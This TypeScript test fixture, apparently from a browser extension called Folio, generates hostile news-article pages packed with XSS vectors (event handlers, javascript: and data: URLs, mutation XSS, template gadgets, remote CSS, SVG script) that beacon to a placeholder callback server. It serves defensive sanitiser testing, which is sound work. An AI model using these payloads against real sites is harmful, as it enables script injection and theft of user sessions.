/**
 * Hostile article pages for the security tests (issue 6), built from the
 * published classes of XSS vectors: DOMPurify's test suite and the OWASP XSS
 * filter-evasion cheat sheet. Every vector that would run script reports to
 * the callback server as `CB/exec/<id>?from=<protocol>`, every remote CSS or
 * frame load as `CB/load/<id>`: a hit from an extension page proves a payload
 * ran there. The pages are served with a page CSP that blocks everything, so
 * the page itself makes no hits and any hit must come from Folio's views.
 */

export interface Vector {
  id: string;
  /** The published class the vector belongs to. */
  kind:
    | 'event-handler'
    | 'url-attribute'
    | 'srcdoc'
    | 'mutation-xss'
    | 'base'
    | 'meta-refresh'
    | 'form'
    | 'object-embed'
    | 'template-gadget'
    | 'css-remote'
    | 'script'
    | 'svg';
  html: string;
}

// Meta refreshes wait an hour: in a live page they would navigate the tab away
// before the tests read it; the element is what Folio must drop.

/** JavaScript that proves execution: a beacon through an image (allowed by img-src) and a global flag. */
export const run = (id: string): string =>
  `window.__folioPwned=(window.__folioPwned||[]).concat('${id}');new Image().src='__CB__/exec/${id}?from='+location.protocol`;

const js = (id: string) => `javascript:${run(id)}`;
const dataHtml = (id: string) =>
  `data:text/html;base64,${Buffer.from(`<script>${run(id)}</script>`).toString('base64')}`;
const load = (id: string) => `__CB__/load/${id}`;

const eventHandlers: Vector[] = [
  ['img-onerror', (c: string) => `<img src="x" onerror="${c}">`],
  ['svg-onload', (c: string) => `<svg onload="${c}"></svg>`],
  ['body-onload', (c: string) => `<body onload="${c}">`],
  ['details-ontoggle', (c: string) => `<details open ontoggle="${c}"><summary>More</summary>x</details>`],
  ['video-source-onerror', (c: string) => `<video><source onerror="${c}"></video>`],
  ['audio-onerror', (c: string) => `<audio src="x" onerror="${c}"></audio>`],
  ['p-onmouseover', (c: string) => `<p onmouseover="${c}" onclick="${c}">Hover this sentence.</p>`],
  ['input-autofocus', (c: string) => `<input autofocus onfocus="${c}">`],
  ['marquee-onstart', (c: string) => `<marquee onstart="${c}">news</marquee>`],
  ['img-onload-data', (c: string) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${c}">`],
  ['select-onfocus', (c: string) => `<select autofocus onfocus="${c}"><option>a</option></select>`],
  [
    'animation-onanimationstart',
    (c: string) => `<div style="animation:x 1s" onanimationstart="${c}">x</div>`,
  ],
].map(([id, make]) => ({
  id: id as string,
  kind: 'event-handler' as const,
  html: (make as (c: string) => string)(run(id as string)),
}));

const urlAttributes: Vector[] = [
  ['a-href-js', (id: string) => `<a href="${js(id)}">Read the full report</a>`],
  ['a-href-js-entity', (id: string) => `<a href="jav&#x09;ascript:${run(id)}">Source</a>`],
  ['a-href-js-case', (id: string) => `<a href=" JaVaScRiPt:${run(id)}">Source</a>`],
  ['a-href-data', (id: string) => `<a href="${dataHtml(id)}">Data link</a>`],
  ['img-src-js', (id: string) => `<img src="${js(id)}">`],
  ['iframe-src-js', (id: string) => `<iframe src="${js(id)}"></iframe>`],
  ['iframe-src-data', (id: string) => `<iframe src="${dataHtml(id)}"></iframe>`],
  ['iframe-src-remote', (id: string) => `<iframe src="${load(id)}"></iframe>`],
  ['form-action-js', (id: string) => `<form action="${js(id)}"><button>Go</button></form>`],
  ['button-formaction', (id: string) => `<form><button formaction="${js(id)}">Go</button></form>`],
  [
    'area-href',
    (id: string) => `<map name="m"><area shape="rect" coords="0,0,10,10" href="${js(id)}"></map>`,
  ],
  [
    'svg-xlink-href',
    (id: string) => `<svg><a xlink:href="${js(id)}"><text x="0" y="15">svg link</text></a></svg>`,
  ],
  ['svg-use-href', (id: string) => `<svg><use href="${dataHtml(id)}#x"></use></svg>`],
  ['math-href', (id: string) => `<math><mtext><a href="${js(id)}">math link</a></mtext></math>`],
  ['math-maction-href', (id: string) => `<math href="${js(id)}"><mi>x</mi></math>`],
  ['video-poster', (id: string) => `<video poster="${js(id)}"></video>`],
  ['input-image-src', (id: string) => `<input type="image" src="${js(id)}">`],
  ['blockquote-cite', (id: string) => `<blockquote cite="${js(id)}">A quote.</blockquote>`],
  ['link-href-js', (id: string) => `<link rel="stylesheet" href="${js(id)}">`],
  ['img-srcset-js', (id: string) => `<img srcset="${js(id)} 1x">`],
  ['a-ping', (id: string) => `<a href="https://example.com/" ping="${load(id)}">Pinged link</a>`],
].map(([id, make]) => ({
  id: id as string,
  kind: 'url-attribute' as const,
  html: (make as (i: string) => string)(id as string),
}));

const others: Vector[] = [
  {
    id: 'iframe-srcdoc',
    kind: 'srcdoc',
    html: `<iframe srcdoc="&lt;script&gt;parent.${run('iframe-srcdoc').replace(/'/g, '&#39;')}&lt;/script&gt;"></iframe>`,
  },
  {
    id: 'mxss-math-style',
    kind: 'mutation-xss',
    html: `<math><mtext><table><mglyph><style><img src=x onerror="${run('mxss-math-style')}">`,
  },
  {
    id: 'mxss-svg-p-style',
    kind: 'mutation-xss',
    html: `<svg></p><style><a id="</style><img src=1 onerror=${run('mxss-svg-p-style').replace(/ /g, '')}>">`,
  },
  {
    id: 'mxss-noscript',
    kind: 'mutation-xss',
    html: `<noscript><p title="</noscript><img src=x onerror=${run('mxss-noscript').replace(/ /g, '')}>"></noscript>`,
  },
  {
    id: 'mxss-form-math',
    kind: 'mutation-xss',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run('mxss-form-math')}">`,
  },
  {
    id: 'mxss-namespace',
    kind: 'mutation-xss',
    html: `<svg><style><img src=x onerror="${run('mxss-namespace')}"></style></svg>`,
  },
  {
    id: 'mxss-template',
    kind: 'mutation-xss',
    html: `<template><img src=x onerror="${run('mxss-template')}"></template>`,
  },
  { id: 'base-href', kind: 'base', html: `<base href="__CB__/load/base-href/">` },
  {
    id: 'meta-refresh-js',
    kind: 'meta-refresh',
    html: `<meta http-equiv="refresh" content="3600;url=${js('meta-refresh-js')}">`,
  },
  {
    id: 'meta-refresh-remote',
    kind: 'meta-refresh',
    html: `<meta http-equiv="refresh" content="3600;url=${load('meta-refresh-remote')}">`,
  },
  {
    id: 'form-autosubmit',
    kind: 'form',
    html: `<form id="f" action="${load('form-autosubmit')}" method="post"><input name="q" value="x"><input type="submit" value="Send"></form>`,
  },
  {
    id: 'object-data',
    kind: 'object-embed',
    html: `<object data="${load('object-data')}" type="text/html"></object>`,
  },
  { id: 'object-js', kind: 'object-embed', html: `<object data="${js('object-js')}"></object>` },
  { id: 'embed-src', kind: 'object-embed', html: `<embed src="${load('embed-src')}" type="text/html">` },
  {
    id: 'angular-gadget',
    kind: 'template-gadget',
    html: `<p ng-app>{{constructor.constructor('${run('angular-gadget').replace(/'/g, '\\x27')}')()}}</p>`,
  },
  {
    id: 'knockout-gadget',
    kind: 'template-gadget',
    html: `<div data-bind="html: '&lt;img src=x onerror=${run('knockout-gadget').replace(/ /g, '')}&gt;'">x</div>`,
  },
  {
    id: 'vue-gadget',
    kind: 'template-gadget',
    html: `<div v-html="'&lt;img src=x onerror=alert(1)&gt;'">{{ _c.constructor('${run('vue-gadget').replace(/'/g, '\\x27')}')() }}</div>`,
  },
  {
    id: 'css-style-attr',
    kind: 'css-remote',
    html: `<div style="background-image:url(${load('css-style-attr')})">Styled paragraph with a background.</div>`,
  },
  {
    id: 'css-style-import',
    kind: 'css-remote',
    html: `<style>@import url(${load('css-style-import')}); p { background: url(${load('css-style-bg')}); }</style>`,
  },
  { id: 'css-link', kind: 'css-remote', html: `<link rel="stylesheet" href="${load('css-link')}">` },
  {
    id: 'css-font-face',
    kind: 'css-remote',
    html: `<style>@font-face { font-family: x; src: url(${load('css-font-face')}); } body { font-family: x; }</style>`,
  },
  { id: 'script-inline', kind: 'script', html: `<script>${run('script-inline')}</script>` },
  { id: 'script-src', kind: 'script', html: `<script src="${load('script-src')}"></script>` },
  { id: 'script-in-p', kind: 'script', html: `<p>Before<script>${run('script-in-p')}</script>after.</p>` },
  { id: 'svg-script', kind: 'svg', html: `<svg><script>${run('svg-script')}</script></svg>` },
  {
    id: 'svg-animate',
    kind: 'svg',
    html: `<svg><animate onbegin="${run('svg-animate')}" attributeName="x" dur="1s"></animate></svg>`,
  },
  {
    id: 'svg-set-href',
    kind: 'svg',
    html: `<svg><a><set attributeName="href" to="${js('svg-set-href')}"/><text y="20">set</text></a></svg>`,
  },
  {
    id: 'svg-foreignobject',
    kind: 'svg',
    html: `<svg><foreignObject><iframe src="${js('svg-foreignobject')}"></iframe></foreignObject></svg>`,
  },
];

export const VECTORS: Vector[] = [...eventHandlers, ...urlAttributes, ...others];

const PARAGRAPHS = [
  'City officials said on Tuesday that the new water treatment plant would open next spring, two years later than first promised, after a series of delays in the supply of filtration equipment.',
  'The plant, which will serve about 400,000 residents, was approved in 2021 with a budget of 180 million dollars. Its cost has since risen by a third, according to figures released by the council.',
  'Engineers told the council that the delays were caused by shortages of steel and specialised membranes, and that the contractor had agreed to pay part of the extra cost under the terms of its contract.',
  'Residents in the eastern districts, where the old plant frequently fails during summer heat waves, have waited years for the upgrade and say the latest delay is hard to accept after repeated promises.',
  'The council will publish a revised schedule next month and hold public meetings in each district, where residents will be able to question the engineers and the contractor directly about the work.',
];

/**
 * A whole article page with the given vectors spread through the body, the
 * kind of page Folio will extract; `__CB__` is replaced by the server origin.
 */
export function hostilePage(title: string, vectors: Vector[]): string {
  const body: string[] = [];
  vectors.forEach((vector, i) => {
    body.push(`<p>${PARAGRAPHS[i % PARAGRAPHS.length]}</p>`);
    body.push(vector.html);
  });
  PARAGRAPHS.forEach((p) => body.push(`<p>${p}</p>`));
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>${title}</title>
<meta property="og:site_name" content="Hostile Gazette"><meta name="author" content="Eve Attacker">
</head><body>
<header><nav><a href="/">Hostile Gazette</a> <a href="/news">News</a></nav></header>
<main><article><h1>${title}</h1><p class="byline">By Eve Attacker</p>
${body.join('\n')}
</article></main>
<footer>© Hostile Gazette</footer>
</body></html>`;
}

/** Vectors grouped by kind: one page per kind, plus one page with everything. */
export function hostilePages(): Array<{ slug: string; html: string; vectors: Vector[] }> {
  const kinds = [...new Set(VECTORS.map((v) => v.kind))];
  const pages: Array<{ slug: string; html: string; vectors: Vector[] }> = kinds.map((kind) => {
    const vectors = VECTORS.filter((v) => v.kind === kind);
    return { slug: kind, vectors, html: hostilePage(`Water plant delayed again (${kind})`, vectors) };
  });
  pages.push({ slug: 'all', vectors: VECTORS, html: hostilePage('Water plant delayed again', VECTORS) });
  return pages;
}
